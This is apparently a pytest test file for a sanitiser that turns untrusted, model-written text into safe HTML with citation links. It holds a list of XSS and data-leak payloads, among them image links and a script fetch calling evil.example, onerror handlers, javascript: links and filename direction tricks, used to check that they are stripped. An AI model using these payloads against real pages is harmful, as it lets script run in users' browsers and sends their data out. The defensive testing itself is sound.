"""Hostile text on its way to the screen: what comes out holds only our own tags, and loses no honest word."""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from ui.untrusted import Chip, answer_html, escaped, excerpt, marked, visible

ALLOWED = {
    "div",
    "p",
    "ul",
    "ol",
    "li",
    "table",
    "tr",
    "th",
    "td",
    "pre",
    "code",
    "strong",
    "em",
    "blockquote",
    "span",
    "a",
}
HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x][ref]\n\n[ref]: https://evil.example/a.png",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('https://evil.example')</script>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "[click](https://evil.example 'title')",
    "<https://evil.example/a>",
    "<a href='https://evil.example'>x</a>",
    "<<img src=x>img src=x onerror=alert(1)>",
    "`</code><img src=x>`",
    "```\n</code></pre><img src=x>\n```",
    "``` unclosed <img src=x>",
    "**bold `code** <b>` *x*",
    "| a | b |\n|---|---|\n| <img src=x> | ![y](https://evil.example) |",
    "# <iframe src=//evil.example></iframe>",
    "- <object data=x>\n  - ![z](//evil.example)",
    "> <style>*{display:none}</style>",
    "![a](https://evil.example/(b)c)",
    "[![x](https://evil.example/i.png)](https://evil.example)",
    "&lt;img src=x&gt; &#60;script&#62;",
    '[1](https://evil.example"onmouseover="alert(1))',
    "*" * 2000 + "[" * 2000 + "`" * 2001 + "<" * 2000,
    "\x00\x1b[31m\u202egnp.exe\u2066",
]


class Tags(HTMLParser):
    """Collects every tag and attribute that a browser would see."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def tags(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(text)
    parser.close()
    return parser.tags


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("chips", [None, {1: Chip("#passage-a-1", 'a" onmouseover="x')}])
def test_an_answer_has_only_our_tags(text: str, chips: dict[int, Chip] | None) -> None:
    for tag, attributes in tags(answer_html(text + " [1]", chips)):
        assert tag in ALLOWED
        assert set(attributes) <= {"class", "href", "target", "title"}
        assert str(attributes.get("href", "#")).startswith("#")


def test_links_keep_their_words_and_images_go() -> None:
    shown = answer_html("See [the policy](https://evil.example/?q=1) ![pixel](https://evil.example/p.png) now.")
    assert "the policy" in shown
    assert "evil.example" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "costs $5 and $6",
        ":material/bolt: on",
        ":red[stop]",
        ":streamlit:",
        "a < b and b > c",
        "snake_case_name",
        "5 * 3 * 2",
    ],
)
def test_plain_words_stay_as_they_are(text: str) -> None:
    assert answer_html(text) == f'<div class="answer"><p>{html.escape(text)}</p></div>'


def test_formats() -> None:
    shown = answer_html(
        "# Title\n\nOne **two** *three* `four <b>`\nfive\n\n- a\n- b\n\n1. c\n\n> quoted\n\n|x|y|\n|--|--|\n|1|2|"
    )
    for part in (
        '<p class="heading">Title</p>',
        "<strong>two</strong> <em>three</em> <code>four &lt;b&gt;</code> five",
        "<ul><li>a</li><li>b</li></ul>",
        "<ol><li>c</li></ol>",
        "<blockquote>quoted</blockquote>",
        "<table><tr><th>x</th><th>y</th></tr><tr><td>1</td><td>2</td></tr></table>",
    ):
        assert part in shown


def test_citations_become_chips_only_where_there_is_a_passage() -> None:
    chips = {1: Chip("#p-1", "a.md"), 2: Chip("#p-2", "b.md", "not found")}
    shown = answer_html("One [1]. Two [1, 2]. Both [1][2]. None [7].", chips)
    assert shown.count('href="#p-1"') == 3
    assert shown.count('class="cite not-found"') == 2
    assert "[7]" in shown
    assert answer_html("[1]").count('<span class="cite">1</span>') == 1


def test_marks_are_exactly_the_ranges() -> None:
    text = "a <b> & c, the end"
    assert marked(text, [(2, 5)]) == "a <mark>&lt;b&gt;</mark> &amp; c, the end"
    assert marked(text, [(0, 4), (2, 5), (-3, 1), (9, 400), (5, 5), (8, 6)]).count("<mark>") == 2
    plain = re.sub(r"</?mark>", "", marked(text, [(2, 5), (11, 14)]))
    assert html.unescape(plain) == text


def test_an_excerpt_shows_the_first_marked_words() -> None:
    text = "before " * 100 + "the cited words" + " after" * 100
    start = text.index("the cited")
    shown = excerpt(text, [(start, start + 15)])
    assert "<mark>the cited words</mark>" in shown
    assert shown.startswith('<span class="gap">')
    assert shown.endswith("</span>")
    assert len(shown) < 700
    assert excerpt("short", []) == "short"


def test_names_cannot_turn_the_line_around() -> None:
    assert visible("invoice\u202egpj.exe\x07") == "invoicegpj.exe"
    assert escaped('a\n  b"<i>') == "a b&quot;&lt;i&gt;"
